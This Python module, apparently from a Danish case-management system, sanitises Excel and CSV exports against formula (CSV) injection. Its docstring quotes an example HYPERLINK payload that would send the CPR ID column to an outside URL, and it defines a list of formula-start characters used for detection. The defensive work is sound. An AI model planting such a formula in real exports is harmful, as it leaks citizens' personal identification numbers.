"""Cells of every export, written so that a spreadsheet never runs them (issue 21).

A caseworker's name, a tilbud's name or SMDB's error text is typed by someone
else: ``=HYPERLINK("http://…?cpr="&B2,"Åbn")`` as a name would become a live
formula pointing at the CPR column. Every export (reporting.exports,
systemskifte.report, smdb_rapport) writes its rows through these two helpers:
in Excel each text is a text cell, marked with Excel's quote prefix so that
editing it does not turn it into a formula either; in CSV a field that a
spreadsheet would read as a formula is prefixed with an apostrophe (OWASP's
advice for CSV injection).
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.worksheet.worksheet import Worksheet

#: What a spreadsheet reads as the start of a formula (or, for tab and carriage
#: return, what hides one behind a blank).
FORMEL_TEGN = ("=", "+", "-", "@", "\t", "\r")


def tilfoej_raekke(ws: Worksheet, values: Iterable) -> None:
    """``ws.append(values)``, with every text written as text, never a formula."""
    values = list(values)
    ws.append(values)
    for kolonne, value in enumerate(values, start=1):
        if isinstance(value, str):
            cell = ws.cell(row=ws.max_row, column=kolonne)
            cell.data_type = "s"  # openpyxl would make "=…" a formula, "#N/A" an error
            if value.startswith(FORMEL_TEGN):
                cell.quotePrefix = True


def csv_felt(value):
    """A CSV field a spreadsheet shows as text: a leading = + - @ tab or CR gets an
    apostrophe in front. Numbers and dates are left as they are."""
    if isinstance(value, str) and value.startswith(FORMEL_TEGN):
        return "'" + value
    return value


def csv_raekke(row: dict) -> dict:
    return {k: csv_felt(v) for k, v in row.items()}
